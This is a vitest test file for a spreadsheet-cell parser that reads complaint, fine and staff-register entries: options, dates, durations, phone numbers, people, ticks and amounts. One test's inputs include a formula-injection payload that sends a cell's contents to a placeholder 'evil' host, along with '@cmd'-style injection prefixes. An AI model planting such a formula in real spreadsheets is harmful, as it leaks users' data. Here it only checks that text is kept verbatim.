import { describe, expect, test } from 'vitest';
import type { Column } from '../../../shared/registers/column.ts';
import { COMPLAINTS } from '../../../shared/registers/complaints.ts';
import { FINES } from '../../../shared/registers/fines.ts';
import { REGISTERS } from '../../../shared/registers/list.ts';
import { DEPARTMENTS, PEOPLE, RULES, WORKDAYS } from '../../../shared/registers/references.ts';
import { columnOf, type Register } from '../../../shared/registers/register.ts';
import { keptCell, LONGEST_TEXT, type Raw } from '../../../shared/sheet/cell.ts';
import { choiceOf } from '../../../shared/sheet/choices.ts';
import { understand, type Understood } from '../../../shared/sheet/understand.ts';
import { yuan } from '../../../shared/words/money.ts';
import { at, changed, companyWith, lookAt } from '../cases/kit.ts';

const LETTERED = [changed('0201', { no: 'E0013', name: '张三' }), changed('0201', { no: 'E0014', name: '李明' }), changed('0201', { no: 'E0015', name: '李明' })];
const LOOK = lookAt(at('09:34'), companyWith({ people: LETTERED }));
const cellIn = (register: Register, key: string, raw: Raw, seenAt = '09:34'): Understood => understandIn(columnOf(register, key), raw, seenAt);
const understandIn = (column: Column, raw: Raw, seenAt = '09:34'): Understood => understand(column, { ...keptCell({ raw }), at: at(seenAt) }, LOOK);

/** What a cell is worth, or the code of what is wrong with it. */
const worth = (it: Understood): unknown => ('value' in it ? it.value : it.fault.code);
const said = (it: Understood): string | undefined => ('value' in it ? it.besides?.sentence.zh : it.fault.sentence.zh);
/** A column of some later register. */
const TOOK: Column = { key: 'took', title: '处理时长', writer: 'P', kind: 'duration', unit: '分钟', step: '' };

describe('S20, D21: options however they are dressed', () => {
  test.each<[string, Raw, string]>([
    ['satisfaction', '满意。', '满意'], ['satisfaction', '满意 ', '满意'], ['satisfaction', '（满意）', '满意'], ['satisfaction', '(满意)', '满意'], ['satisfaction', '【满意】。', '满意'], ['satisfaction', '「满意。」', '满意'], ['satisfaction', '　满意　', '满意'],
    ['satisfaction', '没接通', '未接通'], ['satisfaction', '无人接听。', '未接通'], ['satisfaction', '非常满意', '满意'],
    ['type', '质量', '产品质量'], ['type', '售后', '售后维修'], ['type', '（其它）', '其他'], ['upheld', '成立', '是'], ['upheld', '不成立', '否'], ['upheld', '√', '是'], ['upheld', 'Ｙ', '是'], ['upheld', true, '是'], ['upheld', false, '否'], ['conduct', '违规', '违规操作'], ['void', '重复', '重复录入'],
  ])('%s «%s» is %s', (key, raw, expected) => expect(worth(cellIn(COMPLAINTS, key, raw))).toBe(expected));
  test.each<[string, string]>([['satisfaction', '满 意'], ['satisfaction', '满意？'], ['satisfaction', '一般'], ['satisfaction', '（满意）不满意'], ['type', '服务'], ['upheld', '部分成立'], ['conduct', '态度'], ['void', '误']])('%s «%s» could be another, or none', (key, raw) =>
    expect(worth(cellIn(COMPLAINTS, key, raw))).toBe('choice.unknown'));
  test.each<[Register, string, string, string]>([[FINES, 'outcome', '不罚', '免罚'], [FINES, 'final', '撤消', '撤销'], [PEOPLE, 'kind', '直营', '直营店'], [PEOPLE, 'active', '离职', '否'], [RULES, 'unit', '个小时', '小时'], [RULES, 'timing', '工作', '工作时间'], [WORKDAYS, 'type', '补班', '上班']])(
    '$title', (register, key, raw, expected) => expect(worth(cellIn(register, key, raw))).toBe(expected));
  test('«(VIP)» and «（VIP）» are one option, whichever the list has', () => expect([choiceOf(['（VIP）'], '(VIP)'), choiceOf(['(VIP)', '普通'], '（vip）。')]).toEqual(['（VIP）', '(VIP)']));
  test.each<[Raw, readonly string[]]>([['（受理人、财务）', ['受理人', '财务']], ['受理人\n财务', ['受理人', '财务']], ['受理人 财务。', ['受理人', '财务']]])('several: «%s»', (raw, expected) => expect(worth(cellIn(PEOPLE, 'roles', raw))).toEqual(expected));

  const aliased = REGISTERS.flatMap((register) => register.columns.filter((column) => column.aliases).map((column) => ({ name: `${register.title} ${column.title}`, column })));
  test.each(aliased)('the other words of $name each stand for an option and are none themselves', ({ column: { options = [], aliases = {} } }) => {
    expect(Object.values(aliases).filter((option) => !options.includes(option))).toEqual([]);
    expect(Object.keys(aliases).filter((alias) => choiceOf(options, alias) !== undefined)).toEqual([]);
  });
});

describe('S30, D19: dates as text', () => {
  test.each<[string, unknown]>([['2026.3.5', '2026-03-05'], ['3月5日', '2027-03-05'], ['5/3', 'date.ambiguous'], ['26.3.5', 'date.shortYear'], ['昨天', 'day.unreadable']])('a day «%s»', (raw, expected) => expect(worth(cellIn(COMPLAINTS, 'deliveryOn', raw))).toBe(expected));
  test.each<[string, string]>([['10月12日 9点半', '09:30'], ['上月 9:30', 'moment.unreadable'], ['今天 9:30', '09:30'], ['昨天 14:00', '10-11 14:00'], ['10月13日 9:30', 'moment.ahead'], ['10月14日 9:30', '2025-10-14 09:30'], ['10-12 上午9:30', '09:30']])('a moment «%s»', (raw, expected) =>
    expect(worth(cellIn(COMPLAINTS, 'deliveredAt', raw))).toBe(/\d/.test(expected) ? at(expected) : expected));
  test('今天 is the day on which it was first seen', () => expect([worth(cellIn(COMPLAINTS, 'deliveredAt', '昨天 14:00', '10-10 09:00')), worth(cellIn(COMPLAINTS, 'onSitePromise', '明天 14:00', '10-10 09:00'))]).toEqual([at('10-09 14:00'), at('10-11 14:00')]));
  test.each([['10-12 00:09', 'date.midnight'], ['10-12 00:10', at('10-11 23:50')]])('just after midnight nobody knows which day it was typed on: %s', (seenAt, expected) => expect(worth(cellIn(COMPLAINTS, 'deliveredAt', '昨天 23:50', seenAt))).toBe(expected));
  test.each<[string, string]>([
    ['5/3 9:30', '送达时间「5/3 9:30」分不清哪个是月哪个是日，应写明年月日，例如 2026-05-03 09:34'], ['26-3-5 9:30', '送达时间「26-3-5 9:30」的年份只有两位，应写四位，例如 2026-03-05 09:34'],
    ['9:30', '送达时间只有钟点没有日期，应写日期和时间，例如 2026-10-12 09:34'], ['上午9:30', '送达时间只有钟点没有日期，应写日期和时间，例如 2026-10-12 09:34'], ['昨天', '送达时间「昨天」看不懂，应写日期和时间，例如 2026-10-12 09:34'],
  ])('«%s» is told what would be right', (raw, expected) => expect(said(cellIn(COMPLAINTS, 'deliveredAt', raw))).toBe(expected));
  test('of 代理起 too', () => expect(worth(cellIn(DEPARTMENTS, 'deputyFrom', '5/3'))).toBe('date.ambiguous'));
});

describe('S32, D22: durations', () => {
  test.each<[Raw, unknown]>([['30分钟', { minutes: 30 }], ['1.5小时', { minutes: 90 }], [30, { minutes: 30 }], [0.0208333, { minutes: 30 }], ['约20-30分钟', { minutes: 25, between: [20, 30] }], ['很久', 'duration.unreadable'], ['2天', 'duration.days'], ['两天', 'duration.days']])('«%s»', (raw, expected) => expect(worth(understandIn(TOOK, raw))).toEqual(expected));
  test.each<[Raw, string]>([['很久', '处理时长「很久」看不懂，应写多少分钟或小时，例如 30分钟'], ['2天', '处理时长「2天」没有说一天算几小时，应写小时，例如 30分钟'], ['约30分钟', '处理时长「约30分钟」是约数，按 30 分钟计']])('of «%s» is said', (raw, expected) => expect(said(understandIn(TOOK, raw))).toBe(expected));
});

describe('D20: codes that came as numbers', () => {
  test.each<[Raw, string]>([[7_712_345_678, '联系电话「7712345678」是数字，前导零可能丢失，请核对后以文本填写，例如 07712345678'], [1_088_888_888, '例如 01088888888'], [75_588_888_888, '例如 075588888888'], [912_345_678, '例如 0912345678']])('a phone %d may have lost its zero, and counts', (raw, expected) => {
    const it = cellIn(COMPLAINTS, 'phone', raw);
    expect([worth(it), said(it)]).toEqual([String(raw), expect.stringContaining(expected)]);
  });
  test.each<Raw>([13_800_000_002, 4_008_123_123, 8_008_208_820, 88_888_888, 95_533, 1_380_000_000, 8_613_800_000_002, '0771234567', '771234567'])('a phone %s is left in peace', (raw) => expect(said(cellIn(COMPLAINTS, 'phone', raw))).toBeUndefined());
  test.each<[Raw, string | undefined]>([[13, '工号/编号「13」是数字，前导零可能丢失，请核对后以文本填写，例如 0013'], [1_013, undefined], ['13', undefined]])('工号 %s among others like 0101', (raw, expected) => expect(said(cellIn(PEOPLE, 'no', raw))).toBe(expected));
  test('nobody is asked for zeros where no 工号 begins with one', () => expect(understand(columnOf(PEOPLE, 'no'), { raw: 13, at: at('09:34') }, { ...LOOK, padded: 0 })).toEqual({ value: '13' }));
  test('a number of more than 15 digits has lost the last', () => expect([worth(cellIn(COMPLAINTS, 'order', 1_234_567_890_123_456)), worth(cellIn(COMPLAINTS, 'order', 123_456_789_012_345))]).toEqual(['code.rounded', '123456789012345']));
  test('a person named by a number that lost its zero is asked for, not guessed', () => expect(said(cellIn(COMPLAINTS, 'firstIntake', 101))).toBe('第一受理人「101」不在人员表，前导零可能丢失，应写完整的工号，例如 0101 王受'));
});

describe('people by number, name, or both', () => {
  test.each(['E0013', 'e0013', 'Ｅ００１３', 'E0013 张三', 'E0013张三', '张三E0013', '张三（E0013）', '张三(E0013)', 'E0013（张三）', 'E0013-张三', 'E0013 - 张三', '张三-E0013', '张三/E0013', 'E0013：张三', '【E0013】张三', '张三', '张 三', '张三。', '（张三）', 'E0013 张 三', 'e0013张三', '张三\u200b'])('«%s»', (raw) =>
    expect(worth(cellIn(COMPLAINTS, 'firstIntake', raw))).toBe('E0013'));
  test.each([['张三（E0014）', 'person.unknown'], ['李明', 'person.ambiguous'], ['李明（E0015）', 'E0015'], ['张三、李明', 'person.unknown'], ['E0013 E0014', 'person.unknown'], ['D-07', 'D-07'], ['华南经销（D-07）', 'D-07'], ['张三丰', 'person.unknown']])('«%s»: %s', (raw, expected) => expect(worth(cellIn(COMPLAINTS, 'firstIntake', raw))).toBe(expected));
  test.each(['待查。', '（待查）', '公司外人员 '])('«%s» is nobody', (raw) => expect(['待查', '公司外人员']).toContain(worth(cellIn(COMPLAINTS, 'responsible', raw))));
  test.each(['售后部。', '（售后部）'])('a department «%s»', (raw) => expect(worth(cellIn(COMPLAINTS, 'department', raw))).toBe('售后部'));
});

describe('ticks and money', () => {
  test.each<[Raw, unknown]>([['（是）', true], ['√。', true], ['✅', true], ['☑️', true], ['❌', false], ['没有', false], ['是？', 'tick.unreadable'], ['是 否', 'tick.unreadable']])('a tick «%s»', (raw, expected) => expect(worth(cellIn(COMPLAINTS, 'money', raw))).toBe(expected));
  test.each<[Raw, unknown]>([
    ['30元', yuan(30)], ['￥30', yuan(30)], ['¥ 30.5', yuan(30.5)], ['1,200.00', yuan(1_200)], ['１，２００元', yuan(1_200)], ['30块钱', yuan(30)], ['30元整', yuan(30)], ['RMB 30', yuan(30)], ['三十元', yuan(30)], ['（30元）', yuan(30)], ['30元。', yuan(30)],
    ['1,20', 'yuan.unreadable'], ['30 50', 'yuan.unreadable'], ['三十', 'yuan.unreadable'], ['一百二元', 'yuan.unreadable'], ['约30元', 'yuan.unreadable'], ['30-50', 'yuan.unreadable'], ['30.555', 'yuan.unreadable'], ['３０ｋ', 'yuan.unreadable'],
  ])('an amount «%s»', (raw, expected) => expect(worth(cellIn(FINES, 'amount', raw))).toBe(expected));
  test.each<[Raw, unknown]>([['1,200', 1_200], ['1e3', 'number.unreadable'], ['0x10', 'number.unreadable'], ['1,20', 'number.unreadable']])('a number «%s»', (raw, expected) => expect(worth(cellIn(RULES, 'low', raw))).toBe(expected));
});

describe('S46, S53, D34: text is kept exactly', () => {
  test.each<string>(['👍🏽 好\r\n第二行\t', 'a\u200bb', 'NULL', 'null', '#N/A', '#REF!', 'undefined', '=IMPORTDATA("https://evil/?x="&A2)', '+1', '@cmd', '-2+3', '\t制表', '  前后有空格  ', '\uFEFF开头', '会\u0301议', '（VIP）', 'TRUE', '0013'])('%j', (raw) =>
    expect(worth(cellIn(COMPLAINTS, 'content', raw))).toBe(raw));
  test('50,000 characters: the record keeps 5,000 and says how many there are', () => {
    const kept = keptCell({ raw: '长👍'.repeat(25_000) });
    expect([worth(understandIn(columnOf(COMPLAINTS, 'content'), kept.raw)), kept.long]).toEqual(['长👍'.repeat(LONGEST_TEXT / 2), 50_000]);
  });
  test.each([['choice', 'type'], ['person', 'firstIntake'], ['moment', 'deliveredAt'], ['tick', 'money'], ['record', 'repeatOf']])('«#N/A» typed into a column of kind %s is only not understood', (_, key) => expect(worth(cellIn(COMPLAINTS, key, '#N/A'))).toMatch(/unknown|unreadable/));
  test('a quoted text is never cut inside a character', () => expect(said(cellIn(COMPLAINTS, 'type', `a${'👍'.repeat(60)}`))).toContain(`「a${'👍'.repeat(39)}」`));
});
